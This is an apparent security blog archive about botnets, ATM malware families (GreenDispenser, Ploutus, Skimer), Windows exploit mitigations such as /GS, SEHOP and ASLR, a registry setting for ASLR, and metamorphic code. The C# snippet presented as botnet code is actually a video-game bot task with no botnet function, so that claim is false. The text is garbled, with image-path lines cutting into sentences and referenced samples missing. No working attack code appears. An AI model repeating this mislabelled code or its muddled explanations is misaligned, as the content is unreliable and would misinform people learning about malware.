Category Archives: Virus & Malware

New trend – Botnet infection technique empowered Ransomware infection


We known that botneck infection technique popular last few year. The objective of the botneck infection more on DDOS attack. But the status now has been change.

Below sample of code on how botnet operation.

using System.Threading.Tasks;

using log4net;

using Loki.Bot;

using Loki.Common;

using Loki.Game;


namespace MapBuddy.Tasks


    public class MapExplorationCompleteTask : ITask


        private static readonly ILog Log = Logger.GetLoggerInstanceForType();


        public async Task<bool> Logic(string type, params dynamic[] param)if (type != "task_execute") return false;

            if (LokiPoe.Me.IsDead || !LokiPoe.CurrentWorldArea.IsMap) return false;


            if (CurrentMap.HasBossRoom)


                if (!TrackMobTask.MapBossFound && !TrackMobTask.MapBossDead)


                    Log.Warn("[MapExplorationCompleteTask] insci_test dont allow finish map until boss is alive.");

                    return false;




            Log.Warn("[MapExplorationCompleteTask] Now finishing the map run.");


            await CommunityLib.LibCoroutines.CreateAndTakePortalToTown();


            //Second portal if we are

            //if (MapBuddySettings.Instance.Mode == OpenMethod.Laboratory)


            //    var currentBot = BotManager.CurrentBot;

            //    currentBot.Settings.SetProperty("NeedsTownRun", 2);return true;



        public string Name => "MapExplorationCompleteTask";


        public string Description => "Task for leaving the map.";


        public string Author => "ExVault";


        public void Start()




        public void Tick()




        public void Stop()public string Version


            get { return "1.0"; }



        public object Execute(string name, params dynamic[] param)


            return null;




Current status:

It looks that an alert shown that an unknown attack counterfeit HSBC email to widespread the infection.  This round of attacks seems focusing on banking industry. Sample counterfeit email display below: Guys be careful!


Not a sophisticated technique, but it got his way to compromised ATM windows OS machineNot a pulp fiction! Kaspersky Lab found that the latest generation of Malware focus in Bank ATM machine attack operate lightweight and simple. But we known that ATM machine was hardening the connectivity. May beyou will be interested? In what way let the machine compromised?

Introduction to Bank ATM malware types (malware found since 2015)

i. Rufus – a malicious code used to clean out ATMs running outdated Windows XP software across states.

ii. GreenDispenser – GreenDispenser attempts to query the microsoft windows registry location (see below) to find the peripheral name for the cash dispenser.


The malware willmake a call to WFSExecute with the command set to WFS_CMD_CDM_DISPENSE” and a timeout of 12000 to dispense cash (see above picture). GreenDispenser capable to execute the sdelete to remove itself from the ATM.

iii. Ploutus – Ploutus enabled criminals to empty ATMs using either an external keyboard attached to the machine or via SMS message. It could run on ATMs running the Windows 10, Windows 8, Windows 7 and XP operating systems. The attack targer aim to control Diebold ATMs.

iv. SUCEFUL – The (SUCEFUL) malware target design to attacks Diebold and NCR ATMs machines.The malicious code features are capable to do the following:

  1. Reading data from the chip of the card
  2. Control of the malware via ATM PIN pad
  3. Suppressing ATM sensors to avoid detection

v. Skimer – Skimer was distributedextensively between 2010 and 2013. Its appearance resulted in a drastic increase in the number of attacks against ATMs, with up to nine different malware families identified by Kaspersky Lab. The criminal (Skimer) group using social engineering technique implant malware to the ATM system through physical access, or via the bank’s internal network.

Another way to make machine vulnerable especially WindowsOperating System


  • Infection technique through phishing, embedded malware in MS-word document ,download malware infection file and visit compromised website.
  • Try to infect server especially WSUS server
  • Compromise ATM machines through software path management and ATM application software update
  • ATM windows operating system compromised
  • As a result, the ATM machine might become crazy!


Protect Yourself:

It is better to use the ATM machine inside of a bank lobby.Should you have interest to elaborate more, please read below details.

ATM thieves are all in jail. Can you tell me that bank ATM environments are safe now?

I am a Microsoft OS. Just wonder why I was hacked even though I have protective system?


A simple question was asked by kernel? Why I was hacked even though I have comprehensive protective system?The windows Operating System development team fully understand relies on market anti virus might not protecting their core OS significantly. Since the computer user not only using Microsoft word processing application. They are allow the 3rd party application vendor run on top of their operating system.
They provides security defense mechanism to 3rdparty software developers on their OS products since 2002. Such advanced protective mechanism also apply to windows XP SP2 and windows server 2003.

Introduction – Microsoft Comprehensive protective system for 3rd party application development (cookbook)

Top 3 protection features overviewStack buffer overrun detection

The Detection  capability was introduced to the C/C++ compiler in Visual Studio .NET.  The /GS switch only inserts checks into function that it “recognizes as subject to buffer overrun problems.

Mitigation scheme – add below instruction in a commonly used header file to increase the number of functions protected by /GS:

#pragma strict_gs_check(on)

Preventing the SEH Overwrites with SEHOP

Structured Exception Handling (SEH) is a Windows mechanism for handling both hardware and software exceptions consistently. In many cases, an attacker will choose to overwrite the exception handler function pointer with an address that contains instructions that are equivalent to a pop reg, pop reg, ret. This allows an attacker to reliably execute arbitrary code by transferring control to the EstablisherFrame that the exception dispatcher passes as the second parameter when calling an exception handler. (see below diagram for reference)

Remark: The SEH overwrite technique uses a software vulnerability to execute arbitrary code by abusing the 32-bit exception dispatching facilities provided by Windows.

Mitigation scheme:Adding dynamic checks to the exception dispatcher that do not rely on having metadata derived from a binary. This is the approach taken by SEHOP. SEHOP achieves this functionality in two distinct steps.

  1. Insertion of a symbolic exception registration record as the tail record in a thread’s exception handler list.
  2. Ensure that the symbolic record can be reached and that it is valid

Below diagram illustration of this logic:


Address space layout randomization(ASLR)

Address Space Layout Randomisation (ASLR) is a technology used to help prevent shellcode from being successful. It does this by randomly offsetting the location of modules and certain in-memory structures. Data Execution Prevention (DEP) prevents certain memory sectors, e.g. the stack, from being executed. By default, Windows Vista and later will randomize system DLLsand EXEs. In order to prevent an attacker from reliably jumping to, for example, aparticular exploited function in memory, ASLR randomly arranges the address space positions of key data areas of a process, including the base of the executable and the positions of the stack, heap and libraries. It provides random stack and heap allocations and page load every time a process starts. Even though system process was hacked. The malware cannot execute shellcode theoretically.

Below articles are my research on ASLR topic on Virtual Machine and other operation system . Should you have interest. Please review below articles for reference.

Mirror Copy – He is great partner of virtual machine but he can kill VM simultaneously – address space layout randomization

The enemy of ASLR (Address space layout randomization) – memory leakBut why was hacked ?

Technical insight –  It looks that using ASLR feature protect windows OS products are perfect. But the cyber security incident happened from past proven that ASLR is hard to avoid side-channel attack. For instance, the vulnerabilities (CVE-2016-7260 and CVE-2016-7259) could allow elevation of privilege if an attacker logs on to an affected system and runs a specially crafted application that could exploit the vulnerabilities and take control of an affected system. The windowsOS system including 2008,2008R2, 2012,2012R2 and 2016.

Another example alert by Microsoft that attackers are using a blend of in-memory malware, legitimate pen-testing tools and a compromised updater to attack banks and tech firms. Similar type of attack was happened on 2013 of several South Korean organizations via a malicious version of an installer from storage service SimDisk.

Below details of information can help you to developing more idea in regards of this matter.

The operating system can promote a driver’s StartType to be a boot start driver depending on the BootFlags value specified in the driver’s INF. You can specify one or more (ORed) of the following numeric values in the INF file, expressed as a hexadecimal value:

  • If a driver should be promoted to be a boot start driver on network boot, specify 0x1 (CM_SERVICE_NETWORK_BOOT_LOAD).
  • If a driver should be promoted on booting from a VHD, specify 0x2 (CM_SERVICE_VIRTUAL_DISK_BOOT_LOAD)
  • If a driver should be promoted while booting from a USB disk, specify 0x4 (CM_SERVICE_USB_DISK_BOOT_LOAD).
  • If a driver should be promoted while booting from SD storage, specify 0x8 (CM_SERVICE_SD_DISK_BOOT_LOAD)
  • If a driver should be promoted while booting from a disk on a USB 3.0 controller, specify 0x10 (CM_SERVICE_USB3_DISK_BOOT_LOAD).
  • If a driver should be promoted while booting with measured boot enabled, specify 0x20 (CM_SERVICE_MEASURED_BOOT_LOAD).
  • If a driver should be promoted while booting with verifier boot enabled, specify 0x40 (CM_SERVICE_VERIFIER_BOOT_LOAD).
  • If a driver should be promoted on WinPE boot, specify 0x80 (CM_SERVICE_WINPE_BOOT_LOAD).

Windows registry:  Turn on/off ASLR feature: (see below)

ASLR by setting HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Memory Management\MoveImages


ASLRdoes not affect runtime performance. However it might slow down the initial loading of modules. But it is not in full capability to protect your windows OS system.

A reminder . Do not ignore unimportant item.



Assurance level of 3rd party software – Part 1


As we know google did the 3rd party application assurance last few months. Their objective is intend to fight against unknown malicious code embedded in software.

Hidden malicious code history

Metamorphic code (Win32/Simile)  was born on 2002 written in assembly language which target Microsoftsoftware operating systemproducts. As time goes by, the 2nd generation of metamorphic code capable changing what registers to use, changing flow control with jumps, changing machine instructions to equivalent ones or reordering independent instructions.

*Metamorphic code can also mean that a virus is capable of infecting executables from two or more different operating systems (such as Windows and GNU/Linux) or even different computer architectures.

Malware/RootKit infection from software device driver to Smartphone

A revolution of technology world on 2007 driven by Apple iPhone and Android. Thus such a way driven malware and rootkit re-engineering their architecture. As a result, their implant destination not limit on device drive itself. It also includes smartphone 3rd party application.

Part 1 – Microsoft OS products, rooting your software driver technique overview

